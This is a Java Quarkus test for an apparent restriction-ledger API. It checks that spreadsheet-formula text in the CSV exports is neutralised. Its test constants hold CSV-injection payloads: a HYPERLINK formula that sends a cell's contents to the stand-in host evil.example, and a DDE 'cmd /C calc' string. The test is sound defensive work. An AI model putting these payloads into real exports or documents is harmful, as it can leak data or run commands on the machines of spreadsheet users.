package org.restrictionledger.query.api;

import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.restrictionledger.events.Effective;
import org.restrictionledger.events.FineImposed;
import org.restrictionledger.events.LegalBasis;
import org.restrictionledger.events.Measure;
import org.restrictionledger.events.RestrictionImposed;
import org.restrictionledger.events.Source;
import org.restrictionledger.query.TestEvents;
import org.restrictionledger.testsupport.RealInfrastructure;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.List;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;

/**
 * Free text that a reporter wrote as a spreadsheet formula comes out of every export as inert text: the exports are
 * read back with a CSV parser, as a spreadsheet would read them, and each cell is compared.
 */
@QuarkusTest
@WithTestResource(value = RealInfrastructure.class, initArgs = @ResourceArg(name = "database", value = "query"))
class CsvInjectionTest {

    private static final String AUTHORITY = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private static final String REASON = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String FINE_AUTHORITY = "+1+1";
    private static final String FINE_REASON = "-2+3, \"quoted\"\nand a second line";

    private final TestEvents events = new TestEvents();

    private static List<CSVRecord> read(String csv) throws IOException {
        try (CSVParser parser = CSVParser.parse(new StringReader(csv), CSVFormat.RFC4180.builder()
                .setHeader().setSkipHeaderRecord(true).get())) {
            return parser.getRecords();
        }
    }

    @Test
    void formulasInFreeTextAreNeutralisedInEveryExport() throws IOException {
        List<Source> sources = List.of(new Source(null, "Example News", null));
        Effective day = Effective.day(LocalDate.of(2025, 3, 1));
        events.publish("signal", new RestrictionImposed(Measure.FULL_BLOCK, List.of(), AUTHORITY,
                LegalBasis.OTHER, REASON, day, sources));
        events.publish("signal", new FineImposed(new BigDecimal("1000.00"), "EUR", FINE_AUTHORITY, LegalBasis.OTHER,
                FINE_REASON, Effective.day(LocalDate.of(2025, 4, 1)), sources));
        events.awaitVersion("signal", 2);

        List<CSVRecord> timeline = read(given().accept("text/csv")
                .when().get("/api/v1/countries/" + events.country + "/timeline")
                .then().statusCode(200).extract().asString());
        assertEquals(2, timeline.size());
        assertEquals("'" + AUTHORITY, timeline.get(0).get("authority"));
        assertEquals("'" + REASON, timeline.get(0).get("reason"));
        assertEquals("'" + FINE_AUTHORITY, timeline.get(1).get("authority"));
        assertEquals("'" + FINE_REASON, timeline.get(1).get("reason"), "quoting and line breaks survive");
        assertEquals("1000.00", timeline.get(1).get("amount"));

        List<CSVRecord> fines = read(given().queryParam("format", "csv").queryParam("country", events.country)
                .when().get("/api/v1/fines")
                .then().statusCode(200).extract().asString());
        assertEquals(1, fines.size());
        assertEquals("'" + FINE_AUTHORITY, fines.get(0).get("authority"));
        assertEquals("'" + FINE_REASON, fines.get(0).get("reason"));

        List<CSVRecord> platforms = read(given().queryParam("format", "csv")
                .when().get("/api/v1/countries/" + events.country + "/platforms")
                .then().statusCode(200).extract().asString());
        assertEquals("signal", platforms.get(0).get("platform"));
        assertEquals("BLOCKED", platforms.get(0).get("status"));
    }
}
